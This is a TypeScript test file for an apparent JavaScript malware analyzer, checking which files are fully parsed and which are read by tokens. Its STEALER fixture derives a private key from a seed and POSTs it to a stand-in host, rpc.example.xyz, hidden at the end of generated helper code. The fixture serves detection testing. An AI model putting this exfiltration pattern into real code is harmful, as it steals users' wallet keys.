import assert from 'node:assert/strict';
import { before, describe, test } from 'node:test';
import { analyzeJavaScriptSourceDetailed } from './analyze.ts';
import { LEXICAL_THRESHOLD_CHARS, PLAIN_PARSE_MAX_CHARS, readByTokens } from './lexical-reading.ts';
import { initJavaScriptParser } from './parser.ts';

before(async () => {
  await initJavaScriptParser();
});

/** A readable library file of about `size` characters, one short function per few lines. */
function plainLibrary(size: number, tail: string): string {
  const parts: string[] = [];
  let length = 0;
  for (let i = 0; length < size; i++) {
    const chunk = `function helper${i}(a, b) {\n  return a.concat(b, ${i});\n}\n`;
    parts.push(chunk);
    length += chunk.length;
  }
  return `${parts.join('')}${tail}`;
}

const STEALER = [
  'class Loader {',
  '  static addToQueue(key) {',
  "    fetch('https://rpc.example.xyz/q', { method: 'POST', headers: { 'x-id': key } });",
  '  }',
  '}',
  'function load(seed) {',
  '  const privateKey = derive(seed);',
  '  Loader.addToQueue(privateKey);',
  '}',
  'module.exports = { load };',
].join('\n');

describe('which files are parsed and which are read by tokens', () => {
  test('a plain file past the token threshold is parsed, so its data flow is traced', () => {
    const code = plainLibrary(LEXICAL_THRESHOLD_CHARS + 40 * 1024, STEALER);
    assert.equal(readByTokens(code), false);
    const result = analyzeJavaScriptSourceDetailed('lib/index.js', Buffer.from(code));
    assert.equal(result.facts.partial, false);
    const flows = result.facts.constructs.filter((fact) => fact.kind === 'data-flow');
    assert.ok(flows.some((fact) => fact.detail?.includes('via addToQueue')));
  });

  test('past the plain-file cap, and minified past its own threshold, files are read by tokens', () => {
    assert.equal(readByTokens(plainLibrary(PLAIN_PARSE_MAX_CHARS + 1024, '')), true);
    assert.equal(readByTokens(`var a=${'1+'.repeat(60 * 1024)}1;\n`.repeat(2)), true);
  });
});
